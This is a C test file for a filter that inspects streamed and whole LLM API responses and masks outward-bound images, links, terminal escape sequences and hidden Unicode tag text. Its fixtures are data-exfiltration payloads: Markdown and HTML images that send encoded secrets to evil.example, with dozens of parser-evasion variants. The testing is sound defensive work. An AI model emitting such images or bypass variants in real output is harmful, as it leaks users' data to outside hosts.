/* What acts on a reader is taken out of texts that clients show, without a word of policy; policy may say
 * otherwise by kind, and may list hosts. However an answer is cut, the client joins the same. */
#include "review_help.h"
#include "review_streams.h"

#define DATA "VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz" /* The password of the boss */
#define EVIL "https://evil.example/"
#define IMAGE "![x](" EVIL "p.png?q=" DATA ")"
#define LINK "[x](" EVIL "?q=" DATA ")"
#define DEEP "> > > > > > > > > > > > "
#define ESC "\\u001b[2J" /* as JSON has it */
#define TAGS "\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7"

/* What policy says. */
typedef enum policy {
    NOTHING = 0,
    WITHHOLDS,
    PASSES,
    MASKS_LINKS,
    LISTS_HOSTS,
    WITHHOLDS_CATEGORY,
    LISTS_IMAGES, /* of the application, and hosts of all */
    LISTS_LINKS,  /* none */
    LISTS_AND_PASSES,
} policy;

static const sp_bytes hosts[] = {{(const uint8_t *)"img.example.org", 15},
                                 {(const uint8_t *)"*.cdn.example", 13}};

static const sp_bytes own_hosts[] = {{(const uint8_t *)"pics.example", 12},
                                     {(const uint8_t *)"*.pics.example", 14}};

static sp_review_options options_with(const fixture *f, sp_dialect_id dialect, bool is_stream, policy what)
{
    sp_review_options options = options_of(f, dialect, is_stream);
    sp_kind_actions *kinds = &options.kinds;
    options.withhold = SP_CAT_BIT(SP_CAT_CREDENTIALS);
    if (what == WITHHOLDS) sp_bits256_add(&kinds->withheld, SP_KIND_OUTWARD_IMAGE);
    if (what == PASSES) sp_bits256_add(&kinds->passed, SP_KIND_OUTWARD_IMAGE);
    if (what == MASKS_LINKS) sp_bits256_add(&kinds->masked, SP_KIND_OUTWARD_LINK);
    if (what == LISTS_HOSTS || what == LISTS_IMAGES) kinds->hosts = hosts, kinds->n_hosts = 2;
    if (what == LISTS_IMAGES || what == LISTS_AND_PASSES) options.images = (sp_host_list){own_hosts, 2, true};
    if (what == LISTS_LINKS) options.links = (sp_host_list){NULL, 0, true};
    if (what == LISTS_AND_PASSES) sp_bits256_add(&kinds->passed, SP_KIND_OUTWARD_IMAGE);
    if (what == WITHHOLDS_CATEGORY) options.withhold |= SP_CAT_BIT(SP_CAT_OUTWARD);
    return options;
}

typedef struct row {
    const char *name;
    policy policy;
    const char *text; /* as it stands in JSON */
    const char *got;  /* as the client joins it */
    uint32_t n_masked, n_findings;
    sp_status verdict;
} row;

static const row rows[] = {
    {"an image", NOTHING, "so " IMAGE " it is", "so ![x]([masked: outward-image]) it is", 1, 1, SP_OK},
    {"a definition", NOTHING, "![x][a]\\n\\n[a]: " EVIL "?q=" DATA "\\n",
     "![x][a]\n\n[a]: [masked: outward-image]\n", 1, 1, SP_OK},
    {"an image of HTML", NOTHING, "<img src='" EVIL "?q=" DATA "'> so",
     "<img src='[masked: outward-image]'> so", 1, 1, SP_OK},
    {"an image at the end", NOTHING, "<img src=" EVIL "?q=" DATA, "<img src=[masked: outward-image]", 1, 1,
     SP_OK},
    {"a link is recorded", NOTHING, "so " LINK " it is", "so " LINK " it is", 0, 1, SP_OK},
    {"an image that carries nothing", NOTHING, "![x](https://evil.example/logo.png)",
     "![x](https://evil.example/logo.png)", 0, 0, SP_OK},
    {"a terminal's sequence", NOTHING, "so " ESC "it is", "so [masked: terminal-escape]it is", 1, 1, SP_OK},
    {"what says how to write one", NOTHING, "print('\\\\u001b[2J')", "print('\\u001b[2J')", 0, 0, SP_OK},
    {"hidden text", NOTHING, "so " TAGS "it is", "so [masked: hidden-text]it is", 1, 1, SP_OK},
    {"a family of emoji", NOTHING, "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9 ok",
     "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9 ok", 0, 0, SP_OK},
    {"an image that cuts", WITHHOLDS, "so " IMAGE " it is", "so ![x](", 0, 1, SP_ELEAK},
    {"an image that passes", PASSES, "so " IMAGE " it is", "so " IMAGE " it is", 0, 1, SP_OK},
    {"a link that is masked", MASKS_LINKS, "so " LINK " it is", "so [x]([masked: outward-link]) it is", 1, 1,
     SP_OK},
    {"a link that cuts by its category", WITHHOLDS_CATEGORY, "so " LINK " it is", "so [x](", 0, 1, SP_ELEAK},
    {"a host of the list", LISTS_HOSTS, "![x](https://IMG.example.org:443/?q=" DATA ")",
     "![x](https://IMG.example.org:443/?q=" DATA ")", 0, 0, SP_OK},
    {"a host below a name of the list", LISTS_HOSTS, "![x](//a.b.cdn.example/" DATA ")",
     "![x](//a.b.cdn.example/" DATA ")", 0, 0, SP_OK},
    {"the name itself", LISTS_HOSTS, "![x](https://cdn.example/" DATA ")", "![x]([masked: outward-image])", 1,
     1, SP_OK},
    {"a host that only ends like one", LISTS_HOSTS, "![x](https://ximg.example.org/" DATA ")",
     "![x]([masked: outward-image])", 1, 1, SP_OK},
    {"a host of the list as a user", LISTS_HOSTS, "![x](https://img.example.org@evil.example/" DATA ")",
     "![x]([masked: outward-image])", 1, 2, SP_OK},
    {"a host of the list behind another one", LISTS_HOSTS,
     "![x](https:/evil.example//img.example.org/?q=" DATA ")", "![x]([masked: outward-image])", 1, 1, SP_OK},
    {"a host of the list behind many slashes", LISTS_HOSTS, "![x](https:////img.example.org/?q=" DATA ")",
     "![x](https:////img.example.org/?q=" DATA ")", 0, 0, SP_OK},
    {"a host of the list before a backslash", LISTS_HOSTS,
     "![x](https://evil.example\\\\.img.example.org/" DATA ")", "![x]([masked: outward-image])", 1, 1, SP_OK},
    {"an image at a host of the application", LISTS_IMAGES,
     "so ![x](https://PICS.example:8443/logo.png) it is", "so ![x](https://PICS.example:8443/logo.png) it is",
     0, 0, SP_OK},
    {"one below such a host, one of all applications", LISTS_IMAGES,
     "![x](//a.pics.example/l.png) ![x](https://img.example.org/l.png)",
     "![x](//a.pics.example/l.png) ![x](https://img.example.org/l.png)", 0, 0, SP_OK},
    {"an image elsewhere", LISTS_IMAGES, "so ![x](" EVIL "logo.png) it is",
     "so ![x]([masked: unlisted-image]) it is", 1, 1, SP_OK},
    {"an image that may be anywhere in the text", LISTS_IMAGES, "![a [b] c]( \\n   <" EVIL "l.png>)",
     "![a [b] c]( \n   <[masked: unlisted-image]>)", 1, 1, SP_OK},
    {"an image of HTML elsewhere", LISTS_IMAGES, "<img src='" EVIL "l.png'> so",
     "<img src='[masked: unlisted-image]'> so", 1, 1, SP_OK},
    {"the second of a set", LISTS_IMAGES, "<img srcset='//pics.example/a 1x, " EVIL "l.png 2x'> so",
     "<img srcset='//pics.example/a 1x, [masked: unlisted-image] 2x'> so", 1, 1, SP_OK},
    {"a definition elsewhere", LISTS_IMAGES, "![x][a]\\n\\n[a]: " EVIL "l.png\\n",
     "![x][a]\n\n[a]: [masked: unlisted-image]\n", 1, 1, SP_OK},
    {"an image at the end", LISTS_IMAGES, "![x](" EVIL "l.png", "![x]([masked: unlisted-image]", 1, 1, SP_OK},
    {"a reference of HTML", LISTS_IMAGES, "![x](https&colon;//pics.example/l.png) so",
     "![x](https&[masked: unlisted-image]) so", 1, 1, SP_OK},
    {"a number of a character", LISTS_IMAGES, "![x](h&#116;tps://pics.example/l.png) so",
     "![x](h&#[masked: unlisted-image]) so", 1, 1, SP_OK},
    {"an escape of Markdown", LISTS_IMAGES, "![x](https\\\\://evil.example/l.png) so",
     "![x](https\\[masked: unlisted-image]) so", 1, 1, SP_OK},
    {"slashes that are none", LISTS_IMAGES, "<img src='/\\\\evil.example/l.png'> so",
     "<img src='[masked: unlisted-image]'> so", 1, 1, SP_OK},
    {"a host that goes on", LISTS_IMAGES, "![x](https://pics.example&period;evil.example/l.png) so",
     "![x]([masked: unlisted-image]) so", 1, 1, SP_OK},
    {"a host that goes on behind a tab", LISTS_IMAGES,
     "<img src='https://pics.example\\t.evil.example/l.png'> so", "<img src='[masked: unlisted-image]'> so",
     1, 1, SP_OK},
    {"a host with another full stop", LISTS_IMAGES, "![x](https://a\u3002pics.example/l.png) so",
     "![x]([masked: unlisted-image]) so", 1, 1, SP_OK},
    {"an image that carries data at a host of the application", LISTS_IMAGES,
     "![x](https://pics.example/?q=" DATA ") so", "![x]([masked: outward-image]) so", 1, 1, SP_OK},
    {"an image that carries data elsewhere", LISTS_IMAGES, "so " IMAGE " it is",
     "so ![x]([masked: outward-image]) it is", 1, 2, SP_OK},
    {"one that passes carries nothing elsewhere", LISTS_AND_PASSES, "so " IMAGE " it is",
     "so ![x]([masked: unlisted-image]) it is", 1, 2, SP_OK},
    {"a blank behind a quote", LISTS_IMAGES, "<img src=\\\" https://evil.example/l.png\\\"> so",
     "<img src=\" [masked: unlisted-image]\"> so", 1, 1, SP_OK},
    {"a line end behind an apostrophe", LISTS_IMAGES, "<img src='\\nhttps://evil.example/l.png'> so",
     "<img src='\n[masked: unlisted-image]'> so", 1, 1, SP_OK},
    {"a control character behind a quote", LISTS_IMAGES,
     "<img src=\\\"\\u0001 https://evil.example/l.png\\\"> so",
     "<img src=\"\x01 [masked: unlisted-image]\"> so", 1, 1, SP_OK},
    {"a blank behind an angle bracket", LISTS_IMAGES, "![a](< https://evil.example/l.png>) so",
     "![a](< [masked: unlisted-image]>) so", 1, 1, SP_OK},
    {"a blank in a definition's brackets", LISTS_IMAGES, "![a]\\n\\n[a]: < https://evil.example/l.png>\\n",
     "![a]\n\n[a]: < [masked: unlisted-image]>\n", 1, 1, SP_OK},
    {"a blank before slashes", LISTS_IMAGES, "<img src=\\\" //evil.example/l.png\\\"> so",
     "<img src=\" [masked: unlisted-image]\"> so", 1, 1, SP_OK},
    {"no quote before slashes", LISTS_IMAGES, "<img src= //evil.example/l.png> so",
     "<img src= [masked: unlisted-image]> so", 1, 1, SP_OK},
    {"a bracket and a blank before slashes", LISTS_IMAGES, "![a]( //evil.example/l.png) so",
     "![a]( [masked: unlisted-image]) so", 1, 1, SP_OK},
    {"a bracket and a line end before slashes", LISTS_IMAGES, "![a](\\n//evil.example/l.png) so",
     "![a](\n[masked: unlisted-image]) so", 1, 1, SP_OK},
    {"a definition of slashes", LISTS_IMAGES, "![a]\\n\\n[a]: //evil.example/l.png\\n",
     "![a]\n\n[a]: [masked: unlisted-image]\n", 1, 1, SP_OK},
    {"a definition of slashes, without a blank", LISTS_IMAGES, "![a]\\n\\n[a]://evil.example/l.png\\n",
     "![a]\n\n[a]:[masked: unlisted-image]\n", 1, 1, SP_OK},
    {"CSS and a blank before slashes", LISTS_IMAGES,
     "<p style=\\\"background: url( //evil.example/l.png)\\\"> so",
     "<p style=\"background: url( [masked: unlisted-image])\"> so", 1, 1, SP_OK},
    {"slashes second in a set", LISTS_IMAGES, "<img srcset=\\\"a.png 1x, //evil.example/l.png 2x\\\"> so",
     "<img srcset=\"a.png 1x, [masked: unlisted-image] 2x\"> so", 1, 1, SP_OK},
    {"slashes right behind the comma of a set", LISTS_IMAGES,
     "<img srcset=\\\"a.png 1x,//evil.example/l.png 2x\\\"> so",
     "<img srcset=\"a.png 1x,[masked: unlisted-image] 2x\"> so", 1, 1, SP_OK},
    {"another quote in a set", LISTS_IMAGES,
     "<img srcset=\\\"a.png?x='b> 1x, https://evil.example/l.png 2x\\\"> so",
     "<img srcset=\"a.png?x='b> 1x, [masked: unlisted-image] 2x\"> so", 1, 1, SP_OK},
    {"an image of SVG", LISTS_IMAGES, "<svg><image href=\\\"https://evil.example/l.png\\\"/></svg> so",
     "<svg><image href=\"[masked: unlisted-image]\"/></svg> so", 1, 1, SP_OK},
    {"one by its old name", LISTS_IMAGES,
     "<svg><image xlink:href=\\\"https://evil.example/l.png\\\"/></svg> so",
     "<svg><image xlink:href=\"[masked: unlisted-image]\"/></svg> so", 1, 1, SP_OK},
    {"a part of SVG", LISTS_IMAGES, "<svg><use href=\\\"https://evil.example/l.png\\\"/></svg> so",
     "<svg><use href=\"[masked: unlisted-image]\"/></svg> so", 1, 1, SP_OK},
    {"a base of all addresses", LISTS_IMAGES, "<base href=\\\"https://evil.example/l.png\\\"> so",
     "<base href=\"[masked: unlisted-image]\"> so", 1, 1, SP_OK},
    {"a set of CSS", LISTS_IMAGES,
     "<p style=\\\"background: image-set('https://evil.example/l.png' 1x)\\\"> so",
     "<p style=\"background: image-set('[masked: unlisted-image]' 1x)\"> so", 1, 1, SP_OK},
    {"second in a set of CSS", LISTS_IMAGES,
     "<p style=\\\"background: image-set('a.png' 1x, 'https://evil.example/l.png' 2x)\\\"> so",
     "<p style=\"background: image-set('a.png' 1x, '[masked: unlisted-image]' 2x)\"> so", 1, 1, SP_OK},
    {"an old set of CSS", LISTS_IMAGES,
     "<p style=\\\"background: -webkit-image-set( 'https://evil.example/l.png' 1x)\\\"> so",
     "<p style=\"background: -webkit-image-set( '[masked: unlisted-image]' 1x)\"> so", 1, 1, SP_OK},
    {"a style sheet of CSS", LISTS_IMAGES, "<style>@import \\\"https://evil.example/l.png\\\";</style> so",
     "<style>@import \"[masked: unlisted-image]\";</style> so", 1, 1, SP_OK},
    {"a bracket in code", LISTS_IMAGES, "![`]`](https://evil.example/l.png) so",
     "![`]`]([masked: unlisted-image]) so", 1, 1, SP_OK},
    {"a link whose words are code", LISTS_IMAGES, "[`f[0]`](https://evil.example/doc) so",
     "[`f[0]`](https://evil.example/doc) so", 0, 0, SP_OK},
    {"a slash that is spelled", LISTS_IMAGES, "![x](/&#47;evil.example/l.png) so",
     "![x](/&#[masked: unlisted-image]) so", 1, 1, SP_OK},
    {"a user in a definition", LISTS_IMAGES, "![x][a]\\n\\n[a]: https://pics.example[@evil.example/l.png\\n",
     "![x][a]\n\n[a]: [masked: unlisted-image]@evil.example/l.png\n", 1, 1, SP_OK},
    {"a user without quotes", LISTS_IMAGES, "<img src=https://pics.example|@evil.example/l.png> so",
     "<img src=[masked: unlisted-image]@evil.example/l.png> so", 1, 1, SP_OK},
    {"a port of many digits", LISTS_IMAGES, "![x](https://pics.example:000443/l.png) so",
     "![x]([masked: unlisted-image]) so", 1, 1, SP_OK},
    {"a link tag that began far back", LISTS_IMAGES,
     "<link title=\\\"a text that is so long that nobody who looks back a hundred bytes can say any more "
     "what had begun it at first\\\" href=\\\"https://evil.example/l.png\\\"> so",
     "<link title=\"a text that is so long that nobody who looks back a hundred bytes can say any more what "
     "had begun it at first\" href=\"[masked: unlisted-image]\"> so",
     1, 1, SP_OK},
    {"a link tag with a bracket in quotes", LISTS_IMAGES,
     "<link title=\\\"> <a\\\" rel=icon href=\\\"https://evil.example/l.png\\\"> so",
     "<link title=\"> <a\" rel=icon href=\"[masked: unlisted-image]\"> so", 1, 1, SP_OK},
    {"a set that began far back", LISTS_IMAGES,
     "<img "
     "srcset=\\\"/"
     "a-text-that-is-so-long-that-nobody-who-looks-back-a-hundred-bytes-can-say-any-more-what-had-begun-it-"
     "at-first 1x, https://evil.example/l.png 2x\\\"> so",
     "<img "
     "srcset=\"/"
     "a-text-that-is-so-long-that-nobody-who-looks-back-a-hundred-bytes-can-say-any-more-what-had-begun-it-"
     "at-first 1x, [masked: unlisted-image] 2x\"> so",
     1, 1, SP_OK},
    {"slashes in a set that began far back", LISTS_IMAGES,
     "<img "
     "srcset=\\\"/"
     "a-text-that-is-so-long-that-nobody-who-looks-back-a-hundred-bytes-can-say-any-more-what-had-begun-it-"
     "at-first, //evil.example/l.png 2x\\\"> so",
     "<img "
     "srcset=\"/"
     "a-text-that-is-so-long-that-nobody-who-looks-back-a-hundred-bytes-can-say-any-more-what-had-begun-it-"
     "at-first, [masked: unlisted-image] 2x\"> so",
     1, 1, SP_OK},
    {"data behind a blank and a quote", NOTHING,
     "<img src=' https://evil.example/p?q=VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz'> so",
     "<img src=' [masked: outward-image]'> so", 1, 1, SP_OK},
    {"data behind a blank and slashes", NOTHING,
     "<img src=' //evil.example/p?q=VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz'> so",
     "<img src=' [masked: outward-image]'> so", 1, 1, SP_OK},
    {"links of HTML", LISTS_IMAGES,
     "<p>so <a href=\\\" https://evil.example/l.png\\\">x</a> <a class=\\\"b\\\" "
     "href=\\\"https://evil.example/l.png\\\"> <a href=\\\"https://evil.example/l.png\\\" title=\\\"> "
     "<link\\\">",
     "<p>so <a href=\" https://evil.example/l.png\">x</a> <a class=\"b\" "
     "href=\"https://evil.example/l.png\"> <a href=\"https://evil.example/l.png\" title=\"> <link\">",
     0, 0, SP_OK},
    {"links of Markdown", LISTS_IMAGES,
     "[x](https://evil.example/l.png) [x]( <https://evil.example/l.png> \\\"t\\\") "
     "<https://evil.example/l.png> and \\\"b\\\", https://evil.example/l.png or, https://evil.example/l.png "
     "2 times",
     "[x](https://evil.example/l.png) [x]( <https://evil.example/l.png> \"t\") <https://evil.example/l.png> "
     "and \"b\", https://evil.example/l.png or, https://evil.example/l.png 2 times",
     0, 0, SP_OK},
    {"links behind a long text", LISTS_IMAGES,
     "a text that is so long that nobody who looks back a hundred bytes can say any more what had begun it "
     "at first, https://evil.example/l.png and \\\" https://evil.example/l.png\\\" and < "
     "https://evil.example/l.png> and https://evil.example/l.png",
     "a text that is so long that nobody who looks back a hundred bytes can say any more what had begun it "
     "at first, https://evil.example/l.png and \" https://evil.example/l.png\" and < "
     "https://evil.example/l.png> and https://evil.example/l.png",
     0, 0, SP_OK},
    {"a link with attributes", LISTS_IMAGES,
     "<img srcset=\\\"a 1x, b 2x\\\"><a title=\\\"b, c\\\" href=\\\"https://evil.example/l.png\\\"> so, "
     "https://evil.example/l.png",
     "<img srcset=\"a 1x, b 2x\"><a title=\"b, c\" href=\"https://evil.example/l.png\"> so, "
     "https://evil.example/l.png",
     0, 0, SP_OK},
    {"code", LISTS_IMAGES,
     "x = f(a, // all\\n  b); // so\\na text that is so long that nobody who looks back a hundred bytes can "
     "say any more what had begun it at first\\nlocation.href = \\\"https://evil.example/l.png\\\"; "
     "call(\\\"a\\\", \\\"https://evil.example/l.png\\\"); //end\\n",
     "x = f(a, // all\n  b); // so\na text that is so long that nobody who looks back a hundred bytes can "
     "say any more what had begun it at first\nlocation.href = \"https://evil.example/l.png\"; call(\"a\", "
     "\"https://evil.example/l.png\"); //end\n",
     0, 0, SP_OK},
    {"code with lists", LISTS_IMAGES,
     "x = [\\\"a\\\", \\\"https://evil.example/l.png\\\"]; import \\\"https://evil.example/l.png\\\"; case "
     "x: //so\\n  call(\\\"b\\\", 'https://evil.example/l.png');\\n",
     "x = [\"a\", \"https://evil.example/l.png\"]; import \"https://evil.example/l.png\"; case x: //so\n  "
     "call(\"b\", 'https://evil.example/l.png');\n",
     0, 0, SP_OK},
    {"a quotation that parts an image", LISTS_IMAGES, "> ![a](\\n> https://evil.example/l.png) so",
     "> ![a](\n> [masked: unlisted-image]) so", 1, 1, SP_OK},
    {"a quotation that parts an image, slashes", LISTS_IMAGES, "> ![a](\\n> //evil.example/l.png) so",
     "> ![a](\n> [masked: unlisted-image]) so", 1, 1, SP_OK},
    {"a definition in a quotation", LISTS_IMAGES, "> ![a]\\n>\\n>> [a]:\\n>> https://evil.example/l.png\\n",
     "> ![a]\n>\n>> [a]:\n>> [masked: unlisted-image]\n", 1, 1, SP_OK},
    {"a definition in a quotation, slashes", LISTS_IMAGES,
     "> ![a]\\n>\\n>> [a]:\\n>> //evil.example/l.png\\n", "> ![a]\n>\n>> [a]:\n>> [masked: unlisted-image]\n",
     1, 1, SP_OK},
    {"a quotation that goes on", LISTS_IMAGES, "![a](\\n" DEEP DEEP DEEP DEEP DEEP "//evil.example/l.png) so",
     "![a](\n" DEEP DEEP DEEP DEEP DEEP "[masked: unlisted-image]) so", 1, 1, SP_OK},
    {"links where images are listed", LISTS_IMAGES, "so [x](" EVIL ") and " EVIL " and <a href='" EVIL "'>",
     "so [x](" EVIL ") and " EVIL " and <a href='" EVIL "'>", 0, 0, SP_OK},
    {"images where links are listed", LISTS_LINKS, "so ![x](" EVIL "l.png)", "so ![x](" EVIL "l.png)", 0, 0,
     SP_OK},
    {"a link where none is listed", LISTS_LINKS, "so [x](" EVIL "a) and " EVIL "a.",
     "so [x]([masked: unlisted-link]) and [masked: unlisted-link].", 2, 2, SP_OK},
    {"what is no address", LISTS_LINKS, "a &#38; b, \\\"//\\\" and \\\"\\\\\\\\n\\\", http: see [x](/a/b#c)",
     "a &#38; b, \"//\" and \"\\\\n\", http: see [x](/a/b#c)", 0, 0, SP_OK},
};

static void check(const row *r, play *p, const char *got, const char *cuts)
{
    sp_review_summary s;
    sp_review_summarise(p->review, &s);
    if (p->verdict != r->verdict || strcmp(got, r->got) != 0 || s.n_masked != r->n_masked ||
        s.n_findings != r->n_findings)
        fail_msg("%s, cut at %s: verdict %d, %u masked, %zu found: \"%s\"", r->name, cuts, p->verdict,
                 s.n_masked, s.n_findings, got);
    assert_true(p->is_end);
}

/* The text in events of `step` characters of JSON; an escape stays whole. */
static void append_events(sp_buf *out, const char *text, size_t step, sp_dialect_id dialect)
{
    static const char *const front[] = {
        [SP_DIALECT_OPENAI] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"",
        [SP_DIALECT_ANTHROPIC] = "event: content_block_delta\ndata: {\"type\":\"content_block_delta\","
                                 "\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\""};
    static const char *const back[] = {
        [SP_DIALECT_OPENAI] = "\"}}]}\n\n", [SP_DIALECT_ANTHROPIC] = "\"}}\n\n"};
    const size_t n = strlen(text);
    for (size_t at = 0; at < n;) {
        size_t end = at;
        while (end < n && (end - at < step || ((uint8_t)text[end] & 0xc0) == 0x80))
            end += text[end] != '\\' ? 1 : text[end + 1] == 'u' ? 6 : 2;
        sp_buf_append_str(out, front[dialect]);
        sp_buf_append(out, (sp_bytes){(const uint8_t *)text + at, end - at});
        sp_buf_append_str(out, back[dialect]);
        at = end;
    }
}

static void stream_in(const fixture *f, const row *r, size_t step, sp_dialect_id dialect)
{
    const bool is_openai = dialect == SP_DIALECT_OPENAI;
    const sp_review_options options = options_with(f, dialect, true, r->policy);
    char cuts[16];
    texts got;
    play p;
    play_begin(&p, &options);
    sp_buf stream = SP_BUF_IN(&p.arena.mem);
    sp_buf_append_str(&stream, is_openai ? ROLE(0) : MESSAGE_START TEXT_START(0));
    append_events(&stream, r->text, step, dialect);
    sp_buf_append_str(&stream, is_openai ? FINISH(0, "stop") DONE
                                         : BLOCK_STOP(0) MESSAGE_DELTA("end_turn") MESSAGE_STOP);
    for (size_t at = 0; at < stream.n; at += 37)
        play_feed(&p, f, sp_bytes_sub(sp_buf_bytes(&stream), at, at + 37 < stream.n ? at + 37 : stream.n),
                  at + 37 >= stream.n);
    texts_read(&got, sp_buf_bytes(&p.client), &p.arena.mem);
    snprintf(cuts, sizeof cuts, "%zu", step);
    check(r, &p, texts_get(&got, is_openai ? "0.content" : "0.text"), cuts);
    play_end(&p);
}

static void streams_say_the_same_however_they_are_cut(void **state)
{
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        for (size_t step = 1; step < 24; step++) {
            stream_in(*state, &rows[i], step, SP_DIALECT_OPENAI);
            stream_in(*state, &rows[i], step, SP_DIALECT_ANTHROPIC);
        }
    }
}

static void whole(const fixture *f, const row *r, sp_dialect_id dialect)
{
    const bool is_openai = dialect == SP_DIALECT_OPENAI;
    const sp_review_options options = options_with(f, dialect, false, r->policy);
    sp_json json;
    play p;
    play_begin(&p, &options);
    sp_buf body = SP_BUF_IN(&p.arena.mem), got = SP_BUF_IN(&p.arena.mem);
    sp_buf_append_str(&body, is_openai ? "{\"choices\":[{\"message\":{\"content\":\""
                                       : "{\"content\":[{\"type\":\"text\",\"text\":\"");
    sp_buf_append_str(&body, r->text);
    sp_buf_append_str(&body, is_openai ? "\"}}]}" : "\"}]}");
    play_feed(&p, f, sp_buf_bytes(&body), true);
    row expected = *r;
    if (p.verdict == SP_OK) {
        assert_int_equal(sp_json_parse(&json, sp_buf_bytes(&p.client), &p.arena.mem, NULL), SP_OK);
        sp_each it = sp_each_of(sp_json_find(json.root, sp_bytes_of(is_openai ? "choices" : "content")));
        assert_true(sp_each_step(&it));
        sp_buf_append(&got,
                      sp_json_bytes(is_openai ? sp_json_find2(it.value, SP_LIT("message"), SP_LIT("content"))
                                              : sp_json_find(it.value, SP_LIT("text"))));
    } else {
        expected.got = ""; /* of a whole answer nothing leaves */
    }
    sp_buf_append_byte(&got, '\0');
    check(&expected, &p, (const char *)got.p, "no place");
    play_end(&p);
}

static void whole_answers_say_the_same(void **state)
{
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        whole(*state, &rows[i], SP_DIALECT_OPENAI);
        whole(*state, &rows[i], SP_DIALECT_ANTHROPIC);
    }
}

/* What a program is made of stays, and is told: arguments of a call, whole and in a stream. */
static void arguments_are_recorded_as_they_are(void **state)
{
    static const char stream[] =
        ROLE(0) CALL_BEGIN(0, 0, "c", "write") CALL_MORE(0, 0, "{\\\"text\\\":\\\"![x](https://evil.exa")
            CALL_MORE(0, 0, "mple/?q=" DATA ")\\\"}") FINISH(0, "tool_calls") DONE;
    static const char answer[] =
        "{\"choices\":[{\"message\":{\"tool_calls\":[{\"id\":\"c\",\"function\":{"
        "\"name\":\"write\",\"arguments\":\"{\\\"text\\\":\\\"" IMAGE "\\\"}\"}}]}}]}";
    const fixture *f = *state;
    for (unsigned is_stream = 0; is_stream < 2; is_stream++) {
        const sp_review_options options = options_with(f, SP_DIALECT_OPENAI, is_stream, NOTHING);
        sp_review_summary s;
        play p;
        play_whole(&p, f, &options, is_stream ? stream : answer);
        sp_review_summarise(p.review, &s);
        assert_int_equal(p.verdict, SP_OK);
        assert_true(has_bytes(sp_buf_bytes(&p.client), "q=" DATA));
        assert_int_equal(s.n_masked, 0);
        assert_int_equal(s.n_findings, 1);
        assert_int_equal(s.findings[0].finding.kind, SP_KIND_OUTWARD_IMAGE);
        play_end(&p);
    }
}

/* So many of one kind are told; those of a listed host may not hide what comes behind them. */
static void behind_many_of_a_listed_host_nothing_leaves_unseen(void **state)
{
    enum { TOLD = 4096 };
    const fixture *f = *state;
    for (unsigned is_stream = 0; is_stream < 2; is_stream++) {
        sp_review_options options = options_with(f, SP_DIALECT_OPENAI, is_stream, LISTS_HOSTS);
        options.withhold = 0;
        play p;
        play_begin(&p, &options);
        sp_buf answer = SP_BUF_IN(&p.arena.mem);
        sp_buf_append_str(&answer, is_stream ? "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\""
                                             : "{\"choices\":[{\"message\":{\"content\":\"");
        for (size_t i = 0; i < TOLD; i++)
            sp_buf_append_str(&answer, "![x](https://img.example.org/?q=" DATA ") ");
        sp_buf_append_str(&answer, IMAGE " end");
        sp_buf_append_str(&answer, is_stream ? "\"}}]}\n\n" FINISH(0, "stop") DONE : "\"}}]}");
        play_feed(&p, f, sp_buf_bytes(&answer), true);
        assert_int_equal(p.verdict, SP_ELEAK);
        assert_false(has_bytes(sp_buf_bytes(&p.client), EVIL));
        play_end(&p);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(streams_say_the_same_however_they_are_cut),
        cmocka_unit_test(whole_answers_say_the_same),
        cmocka_unit_test(arguments_are_recorded_as_they_are),
        cmocka_unit_test(behind_many_of_a_listed_host_nothing_leaves_unseen),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
